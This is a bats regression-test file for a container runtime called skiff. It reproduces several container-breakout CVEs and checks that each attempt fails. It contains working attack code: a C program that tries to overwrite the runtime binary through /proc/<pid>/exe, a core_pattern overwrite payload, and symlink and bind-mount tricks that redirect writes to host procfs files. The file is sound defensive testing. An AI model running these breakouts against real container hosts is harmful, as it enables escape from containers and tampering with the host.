#!/usr/bin/env bats
# Container breakouts runtimes have had, each reproduced against skiff: the attack is carried out
# and must find nothing of the host.
#   CVE-2019-5736   the host's runtime binary overwritten through /proc/<pid>/exe
#   CVE-2024-21626  a host directory fd leaked into the container (process.cwd /proc/self/fd/N)
#   CVE-2025-31133  maskedPaths bound from a /dev/null that is a symlink
#   CVE-2025-52565  the /dev/console bind led elsewhere by a symlink
#   CVE-2025-52881  procfs writes (sysctl, oom_score_adj, /dev/null reopened) redirected
# and the init's non-dumpability until exec, and rootfs symlinks that point out of the rootfs.

load helpers

setup() {
  requires root
  setup_bundle
}

teardown() {
  teardown_bundle
}

# A static helper program built from C source on stdin: tests/bats has no build step of its own.
build_static() {
  requires gcc
  local out=$1
  gcc -static -O2 -x c -o "$out" - || skip "cannot link a static program (libc6-dev missing?)"
}

# ---- CVE-2019-5736 ---------------------------------------------------------------------------------

# The attack, from a container whose process has the capabilities of config filter $1 applied: it
# watches for the runtime's exec children and tries to reach their exe. Sets ATTACK to its report
# "seen=N exe_paths=N exe_writes=N reopened=N written=N"; fails when the binary changed.
attack_runtime_exe() {
  # The runtime under test, copied: what the attack would overwrite.
  local copy="$BATS_TEST_TMPDIR/skiff-copy" before after shared
  cp "$SKIFF" "$copy"
  before=$(sha256sum <"$copy")
  shared=$(shared_dir)
  # In the container: watch /proc for the runtime's exec children (comm "skiff-copy" until they
  # exec), try to open their exe for writing, and keep an O_PATH fd of it to reopen for writing once
  # the runtime has exited (no ETXTBSY then).
  build_static "$ROOTFS/attack" <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv) {
  int seen[4096], n_seen = 0, paths[1024], n_paths = 0, writes = 0, reopened = 0, written = 0;
  struct stat own;
  if (stat("/bin/busybox", &own) < 0)
    return 1;
  time_t end = time(NULL) + atoi(argv[2]);
  while (access(argv[1], F_OK) != 0 && time(NULL) < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name), known = 0;
      char path[64], comm[32] = "";
      if (pid <= 1)
        continue;
      snprintf(path, sizeof path, "/proc/%d/comm", pid);
      int c = open(path, O_RDONLY | O_CLOEXEC);
      if (c >= 0) {
        ssize_t n = read(c, comm, sizeof comm - 1);
        comm[n > 0 ? n : 0] = 0;
        close(c);
      }
      if (strncmp(comm, "skiff", 5) != 0)
        continue;
      for (int i = 0; i < n_seen; i++)
        known |= seen[i] == pid;
      if (!known && n_seen < 4096)
        seen[n_seen++] = pid;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w >= 0) {
        writes++;
        close(w);
      }
      /* the child may have exec'd the container's busybox meanwhile: that one does not count */
      int p = open(path, O_PATH | O_CLOEXEC);
      struct stat st;
      if (p >= 0 && fstat(p, &st) == 0 && st.st_ino == own.st_ino && st.st_dev == own.st_dev)
        close(p);
      else if (p >= 0 && n_paths < 1024)
        paths[n_paths++] = p;
      else if (p >= 0)
        close(p);
    }
    if (d)
      closedir(d);
  }
  for (int i = 0; i < n_paths; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", paths[i]);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
      reopened++;
      if (write(w, "#!/bin/sh\necho pwned\n", 21) == 21)
        written++;
      close(w);
    }
  }
  printf("seen=%d exe_paths=%d exe_writes=%d reopened=%d written=%d\n", n_seen, n_paths, writes, reopened,
         written);
  return 0;
}
EOF
  update_config '.process.args = ["/attack", "/shared/done", "60"]'
  update_config "$1"
  "$copy" --root "$SKIFF_ROOT" create --bundle "$BUNDLE" "$ID" </dev/null >"$BATS_TEST_TMPDIR/out" 2>&1 3>&- ||
    fail "create: $(cat "$BATS_TEST_TMPDIR/out")"
  "$copy" --root "$SKIFF_ROOT" start "$ID" 3>&-
  # a long PATH keeps each exec child a while between its last capability change and execve
  local path=/bin i
  for ((i = 0; i < 3000; i++)); do path="/nonexistent$i:$path"; done
  for ((i = 0; i < 40; i++)); do
    "$copy" --root "$SKIFF_ROOT" exec -e "PATH=$path" "$ID" true </dev/null 3>&- || fail "exec $i failed"
  done
  touch "$shared/done"
  wait_for_status "$ID" stopped 20
  "$copy" --root "$SKIFF_ROOT" delete "$ID" 3>&-
  ATTACK=$(cat "$BATS_TEST_TMPDIR/out")
  echo "attack: $ATTACK"
  after=$(sha256sum <"$copy")
  [[ $after == "$before" ]] || fail "the runtime binary was modified"
  [[ $ATTACK =~ seen=([0-9]+) ]] || fail "no report from the attack: $ATTACK"
  ((BASH_REMATCH[1] > 0)) || fail "the attack never saw an exec child: nothing was tested"
}

@test "CVE-2019-5736: a container cannot reach the runtime binary through /proc/<pid>/exe of an exec" {
  attack_runtime_exe '.'
  # non-dumpable exec children: not even an O_PATH fd of their exe
  [[ $ATTACK == *" exe_paths=0 exe_writes=0 reopened=0 written=0" ]] || fail "the container reached the runtime: $ATTACK"
}

@test "CVE-2019-5736: with CAP_SYS_PTRACE the container reaches only a sealed copy of the runtime" {
  # CAP_SYS_PTRACE in the host's user namespace opens /proc/<pid>/exe of a non-dumpable process:
  # what it finds must be the sealed memfd copy skiff runs from for such containers
  attack_runtime_exe '.process.capabilities.bounding += ["CAP_SYS_PTRACE"] | .process.capabilities.effective += ["CAP_SYS_PTRACE"] | .process.capabilities.permitted += ["CAP_SYS_PTRACE"] | .linux.namespaces |= map(select(.type != "user"))'
  [[ $ATTACK =~ exe_paths=([0-9]+) ]] && ((BASH_REMATCH[1] > 0)) ||
    fail "the attack opened no exe: CAP_SYS_PTRACE did not reach the exec children, nothing was tested: $ATTACK"
  [[ $ATTACK == *" exe_writes=0 "* && $ATTACK == *" written=0" ]] || fail "the attack wrote to what it reached: $ATTACK"
}

@test "CVE-2019-5736: only containers that could reach it pay for the sealed copy" {
  update_config '.process.args = ["sleep", "1000"]'
  create_container "$ID"
  run readlink "/proc/$(container_pid "$ID")/exe"
  [[ $output != *memfd* ]] || fail "a container without CAP_SYS_PTRACE got the sealed copy: $output"
  skiff delete --force "$ID"
  update_config '.process.capabilities.bounding += ["CAP_SYS_PTRACE"]'
  create_container "$ID"
  run readlink "/proc/$(container_pid "$ID")/exe"
  [[ $output == "/memfd:skiff (deleted)" ]] || fail "the init does not run from the sealed copy: $output"
  run cat "/proc/$(container_pid "$ID")/comm"
  assert_output skiff
  skiff delete --force "$ID"
}

# ---- the init stays non-dumpable until exec --------------------------------------------------------

@test "non-dumpable init: a created container's init hides its environ and fds from the container" {
  update_config '.process.args = ["sleep", "1000"] | .process.env += ["SECRET=hunter2"]'
  create_container "$ID"
  run --separate-stderr skiff exec "$ID" cat /proc/1/environ </dev/null
  [[ $status -ne 0 && $output != *hunter2* ]] || fail "the init's environ was readable: $output"
  [[ $stderr == *"ermission denied"* ]] || fail "unexpected failure: $stderr"
  # the fd numbers are listed (the directory is root's, as the exec'd process is), never their targets
  run --separate-stderr skiff exec "$ID" ls -l /proc/1/fd/ </dev/null
  [[ $output != *"->"* ]] || fail "the init's fd targets were read: $output"
  run --separate-stderr skiff exec "$ID" readlink /proc/1/fd/0 </dev/null
  [[ $status -ne 0 && -z $output ]] || fail "the init's fd 0 was read: $output"
  run --separate-stderr skiff exec "$ID" readlink /proc/1/exe </dev/null
  [[ $status -ne 0 && $output != *skiff* ]] || fail "the init's exe was readable: $output"
  run --separate-stderr skiff exec "$ID" head -c 16 /proc/1/mem </dev/null
  [[ $status -ne 0 ]] || fail "the init's memory was readable"
  # once it has exec'd the container's process, that process is an ordinary one: the same reads work
  skiff start "$ID"
  wait_for_status "$ID" running
  run --separate-stderr skiff exec "$ID" cat /proc/1/environ </dev/null
  assert_success
  [[ $output == *SECRET=hunter2* ]] || fail "control: environ of the started process: $output"
  run --separate-stderr skiff exec "$ID" ls -l /proc/1/fd/ </dev/null
  [[ $output == *"->"* ]] || fail "control: fd targets of the started process: $output"
  skiff delete --force "$ID"
}

# ---- CVE-2024-21626 --------------------------------------------------------------------------------

# A host directory with a marker in it, held open by the runtime on fds 4..9.
host_marker_dir() {
  HOST_DIR="$BATS_TEST_TMPDIR/hostdir"
  mkdir -p "$HOST_DIR"
  echo host >"$HOST_DIR/host-marker"
}

@test "CVE-2024-21626: no fd of the runtime reaches the container process, run and exec alike" {
  host_marker_dir
  update_config '.process.args = ["sh", "-c", "ls /proc/self/fd; exec sleep 1000"]'
  skiff run -d --bundle "$BUNDLE" "$ID" </dev/null >"$BATS_TEST_TMPDIR/out" 2>&1 \
    4<"$HOST_DIR" 5<"$HOST_DIR" 6<"$HOST_DIR" 7<"$HOST_DIR" 8</ 9<"$BUNDLE"
  local tries=100
  while [[ ! -s $BATS_TEST_TMPDIR/out ]] && ((tries-- > 0)); do sleep 0.05; done
  # 0, 1, 2 and the fd ls has open on /proc/self/fd
  run cat "$BATS_TEST_TMPDIR/out"
  assert_output "$(printf '%s\n' 0 1 2 3)"
  run --separate-stderr skiff exec "$ID" ls /proc/self/fd </dev/null \
    4<"$HOST_DIR" 5<"$HOST_DIR" 6<"$HOST_DIR" 7<"$HOST_DIR" 8</ 9<"$BUNDLE"
  assert_success
  assert_output "$(printf '%s\n' 0 1 2 3)"
  skiff delete --force "$ID"
}

@test "CVE-2024-21626: process.cwd /proc/self/fd/N never puts the process in a host directory" {
  host_marker_dir
  local n
  for n in 3 4 5 6 7 8 9 10; do
    update_config '.process.cwd = $c | .process.args = ["sh", "-c", "ls -a; ls ../../../../../..; pwd"]' \
      --arg c "/proc/self/fd/$n"
    run --separate-stderr skiff run --bundle "$BUNDLE" "$(new_id)" </dev/null \
      4<"$HOST_DIR" 5<"$HOST_DIR" 6<"$HOST_DIR" 7<"$HOST_DIR" 8</ 9<"$BUNDLE" 10<"$HOST_DIR"
    echo "cwd /proc/self/fd/$n: status $status, output: $output, stderr: $stderr"
    [[ $output != *host-marker* && $output != *hostdir* && $output != *"$BATS_TEST_TMPDIR"* ]] ||
      fail "cwd /proc/self/fd/$n reached the host: $output"
  done
}

@test "CVE-2024-21626: exec --cwd /proc/self/fd/N never puts the process in a host directory" {
  host_marker_dir
  update_config '.process.args = ["sleep", "1000"]'
  skiff run -d --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1
  local n
  for n in 3 4 5 6 7 8 9 10; do
    run --separate-stderr skiff exec --cwd "/proc/self/fd/$n" "$ID" sh -c 'ls -a; ls ../../../../../..; pwd' \
      </dev/null 4<"$HOST_DIR" 5<"$HOST_DIR" 6<"$HOST_DIR" 7<"$HOST_DIR" 8</ 9<"$BUNDLE" 10<"$HOST_DIR"
    [[ $output != *host-marker* && $output != *hostdir* && $output != *"$BATS_TEST_TMPDIR"* ]] ||
      fail "exec --cwd /proc/self/fd/$n reached the host: $output"
  done
  skiff delete --force "$ID"
}

# ---- CVE-2025-31133: maskedPaths and a symlinked /dev/null -------------------------------------------

# The image's own /dev, not a tmpfs: what the rootfs has there is what the runtime meets.
use_image_dev() {
  update_config '.mounts = [.mounts[] | select(.destination != "/dev")]'
  mkdir -p "$ROOTFS/dev"
  rm -f "$ROOTFS/dev/null"
}

# The host's value of a global procfs file in $SAVED, restored by the teardown if a test changed it.
guard_proc_value() {
  local file=$1
  SAVED=$(cat "$file")
  defer sh -c 'printf "%s\n" "$1" >"$2"' _ "$SAVED" "$file"
}

@test "CVE-2025-31133: a masked file is never bound from a /dev/null that is a symlink to a procfs file" {
  local pattern
  guard_proc_value /proc/sys/kernel/core_pattern
  pattern=$SAVED
  use_image_dev
  ln -s /proc/sys/kernel/core_pattern "$ROOTFS/dev/null"
  update_config '.linux.maskedPaths = ["/proc/kcore", "/proc/keys"] | .process.args = ["sh", "-c", "echo \"|/bin/pwned\" > /proc/keys; cat /proc/sys/kernel/core_pattern"]'
  run_container
  expect_error run "/dev/null" "not the null device"
  [[ $(cat /proc/sys/kernel/core_pattern) == "$pattern" ]] || fail "the host's core_pattern changed"
}

@test "CVE-2025-31133: a masked file is never bound from a /dev/null that is a symlink to a host file" {
  local host_file="$BATS_TEST_TMPDIR/host-secret"
  echo secret >"$host_file"
  use_image_dev
  ln -s "$host_file" "$ROOTFS/dev/null"
  update_config '.linux.maskedPaths = ["/etc/passwd"] | .process.args = ["cat", "/etc/passwd"]'
  run_container
  [[ $status -ne 0 ]] || fail "the container ran: $output"
  [[ $output != *secret* ]] || fail "the host file was bound into the container"
  if grep -q -F "$host_file" /proc/self/mountinfo; then fail "the host file is mounted somewhere"; fi
  [[ $(cat "$host_file") == secret ]]
}

@test "CVE-2025-52881: fds 0-2 are never reopened on a /dev/null that leads to a procfs file" {
  # Without a uts namespace the container's procfs shows the host's domainname: an init that
  # reopened its /dev/null stdio through the symlink would hand the container a writable fd on it.
  local domain
  guard_proc_value /proc/sys/kernel/domainname
  domain=$SAVED
  use_image_dev
  ln -s /proc/sys/kernel/domainname "$ROOTFS/dev/null"
  remove_namespace uts
  update_config 'del(.hostname) | .linux.maskedPaths = [] | .process.args = ["sh", "-c", "echo pwned; echo pwned >&2"]'
  # stdin and stdout the host's /dev/null, as a runtime started by a daemon has them
  status=0
  "$SKIFF" --root "$SKIFF_ROOT" run --bundle "$BUNDLE" "$(new_id)" </dev/null >/dev/null \
    2>"$BATS_TEST_TMPDIR/err" 3>&- || status=$?
  stderr=$(<"$BATS_TEST_TMPDIR/err")
  mapfile -t stderr_lines <"$BATS_TEST_TMPDIR/err"
  [[ $(cat /proc/sys/kernel/domainname) == "$domain" ]] || fail "the host's domainname was written"
  expect_error run "/dev/null" "not the null device"
}

# ---- CVE-2025-52565: /dev/console -------------------------------------------------------------------

@test "CVE-2025-52565: the /dev/console bind never lands on a host file or a host procfs file" {
  local host_file="$BATS_TEST_TMPDIR/host-console" domain
  echo untouched >"$host_file"
  guard_proc_value /proc/sys/kernel/domainname
  domain=$SAVED
  use_image_dev
  mknod -m 666 "$ROOTFS/dev/null" c 1 3
  remove_namespace uts
  update_config 'del(.hostname) | .process.terminal = true'
  local target
  for target in "$host_file" /proc/sys/kernel/domainname; do
    rm -f "$ROOTFS/dev/console"
    ln -s "$target" "$ROOTFS/dev/console"
    set_args sh -c 'echo pwned > /dev/console; echo pwned > /proc/sys/kernel/domainname; true'
    run skiff run --bundle "$BUNDLE" "$(new_id)" </dev/null
    echo "console -> $target: status $status, output: $output"
    [[ $(cat "$host_file") == untouched ]] || fail "the host file was written"
    [[ $(cat /proc/sys/kernel/domainname) == "$domain" ]] || fail "the host's domainname was written"
    if grep -q -F "$host_file" /proc/self/mountinfo; then fail "a pty was mounted over the host file"; fi
  done
}

@test "CVE-2025-52565: /dev/console is the pty itself, never the target of a symlink the image put there" {
  use_image_dev
  mknod -m 666 "$ROOTFS/dev/null" c 1 3
  ln -s /proc/sys/kernel/domainname "$ROOTFS/dev/console"
  update_config '.process.terminal = true'
  set_args sh -c '[ -L /dev/console ] && echo symlink; grep -c domainname /proc/self/mountinfo; tty'
  run skiff run --bundle "$BUNDLE" "$(new_id)" </dev/null
  assert_success
  [[ $output != *symlink* ]] || fail "/dev/console is still the image's symlink"
  [[ ${lines[0]} == 0* ]] || fail "the pty was mounted over the symlink's target: $output"
}

# ---- CVE-2025-52881: procfs writes redirected by mounts ------------------------------------------------

# A createContainer hook (run in the container's mount namespace before pivot_root) binds a global
# procfs file of the host over the file the init is about to write: a runtime that only checks
# "is on procfs" writes the host's value.
redirect_hook() {
  local target=$1 over=$2 hook="$BATS_TEST_TMPDIR/redirect-hook"
  printf '#!/bin/sh\nmount --bind %s "%s/%s"\n' "$target" "$ROOTFS" "$over" >"$hook"
  chmod +x "$hook"
  update_config '.hooks.createContainer = [{path: $h}]' --arg h "$hook"
}

@test "CVE-2025-52881: a sysctl is never written through a mount over /proc/sys" {
  local lease
  guard_proc_value /proc/sys/fs/lease-break-time
  lease=$SAVED
  redirect_hook /proc/sys/fs/lease-break-time proc/sys/kernel/shmmni
  update_config '.linux.sysctl = {"kernel.shmmni": "4017"}'
  run_container cat /proc/sys/kernel/shmmni
  [[ $(cat /proc/sys/fs/lease-break-time) == "$lease" ]] || fail "the host's fs.lease-break-time was written"
  expect_error run "kernel.shmmni" "mount"
}

@test "CVE-2025-52881: oomScoreAdj is never written through a mount over /proc/self/oom_score_adj" {
  local lease
  guard_proc_value /proc/sys/fs/lease-break-time
  lease=$SAVED
  # the init is pid 1 of the container's procfs
  redirect_hook /proc/sys/fs/lease-break-time proc/1/oom_score_adj
  update_config '.process.oomScoreAdj = 417'
  run_container true
  [[ $(cat /proc/sys/fs/lease-break-time) == "$lease" ]] || fail "the host's fs.lease-break-time was written"
  expect_error run "oomScoreAdj" "mount"
}

@test "CVE-2025-52881: a bind mount over /proc/sys in the config is refused, nothing written to its source" {
  local dir="$BATS_TEST_TMPDIR/fake-sys-kernel"
  mkdir -p "$dir"
  update_config '.mounts += [{destination: "/proc/sys/kernel", type: "bind", source: $d, options: ["rbind", "rw"]}]
    | .linux.sysctl = {"kernel.shmmni": "4017"}' --arg d "$dir"
  run_container true
  expect_error run "/proc/sys/kernel" "inside /proc"
  [[ -z $(ls -A "$dir") ]] || fail "something was written to the bind source: $(ls -A "$dir")"
}

# ---- symlinks in the rootfs --------------------------------------------------------------------------

@test "rootfs symlinks: /proc -> / is refused for the proc mount, the host's / is untouched" {
  rmdir "$ROOTFS/proc"
  ln -s / "$ROOTFS/proc"
  local before
  before=$(grep -c . /proc/self/mountinfo)
  run_container true
  expect_error run "/proc" "symlink"
  [[ $(grep -c . /proc/self/mountinfo) == "$before" ]] || fail "the host's mount table changed"
}

@test "rootfs symlinks: mount destinations pointing out of the rootfs land inside it" {
  local outside="$BATS_TEST_TMPDIR/outside"
  mkdir -p "$outside"
  ln -s "$outside" "$ROOTFS/abs"
  ln -s ../../../../../../../../.. "$ROOTFS/rel"
  update_config '.root.readonly = false | .mounts += [
      {destination: "/abs", type: "tmpfs", source: "tmpfs"},
      {destination: "/rel/escaped", type: "tmpfs", source: "tmpfs"}]'
  run_container sh -c 'touch /abs/x /rel/escaped/y && ls -d /abs/x /escaped/y'
  assert_success
  [[ -z $(ls -A "$outside") ]] || fail "the host directory was written: $(ls -A "$outside")"
  [[ ! -e /escaped ]] || fail "a directory was created at the host's /"
  if grep -q -F "$outside" /proc/self/mountinfo; then fail "a mount was made on the host path"; fi
}
